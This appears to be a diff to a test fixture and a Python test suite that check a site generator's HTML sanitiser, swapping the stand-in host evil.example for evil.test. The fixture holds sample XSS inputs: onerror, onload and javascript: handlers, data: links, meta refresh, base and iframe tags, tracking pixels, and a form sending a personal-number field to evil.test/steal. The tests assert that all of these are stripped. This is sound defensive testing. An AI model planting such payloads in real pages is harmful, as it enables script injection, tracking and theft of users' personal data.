@@ -32,19 +32,19 @@ chapters:
 Vanlig text om plogvallen.\x0b Mer text.
 
 <img src=x onerror="window.__pwned='img'">
-<img src="https://evil.example/spy.png" alt="spårpixel">
-<img src="//evil.example/spy2.png" alt="spårpixel två">
+<img src="https://evil.test/spy.png" alt="spårpixel">
+<img src="//evil.test/spy2.png" alt="spårpixel två">
 
 [Klicka här](javascript:window.__pwned='md-link') och
 <a href="javascript:window.__pwned='a'" id="jslink">JS-länk</a>
 <a href="data:text/html,<script>alert(1)</script>">data-länk</a>
 
-<meta http-equiv="refresh" content="0;url=https://evil.example/">
-<base href="//evil.example/">
-<form action="https://evil.example/steal"><input name="pnr"><button>Skicka</button></form>
-<iframe src="https://evil.example/"></iframe>
+<meta http-equiv="refresh" content="0;url=https://evil.test/">
+<base href="//evil.test/">
+<form action="https://evil.test/steal"><input name="pnr"><button>Skicka</button></form>
+<iframe src="https://evil.test/"></iframe>
 <svg onload="window.__pwned='svg'"></svg>
-<div style="background:url(https://evil.example/b.png)" onmouseover="window.__pwned=1">stil</div>
+<div style="background:url(https://evil.test/b.png)" onmouseover="window.__pwned=1">stil</div>
 <script>window.__pwned='script'</script>
 
 Slut på anteckningarna <script>window.__pwned='unclosed'
@@ -174,11 +174,11 @@ def test_feed_carries_the_same_sanitised_notes(site) -> None:
     item = feed.split("<item>")[-1] if "Snöröjning &lt;!--&lt;script&gt;" in feed.split(
         "<item>")[-1] else feed
     assert "Den här texten får inte försvinna." in item
-    for bad in ("javascript:", "evil.example", "onerror", "<script", "<iframe", "<form",
+    for bad in ("javascript:", "evil.test", "onerror", "<script", "<iframe", "<form",
                 "<meta", "<base", "data:text"):
         assert bad not in feed, bad
     page_html = (site_dir / "avsnitt" / "snorojning" / "index.html").read_text()
-    for bad in ("javascript:", "evil.example", "onerror", "<iframe", "<form", "<base",
+    for bad in ("javascript:", "evil.test", "onerror", "<iframe", "<form", "<base",
                 'http-equiv="refresh"', "data:text"):
         assert bad not in page_html, bad
 
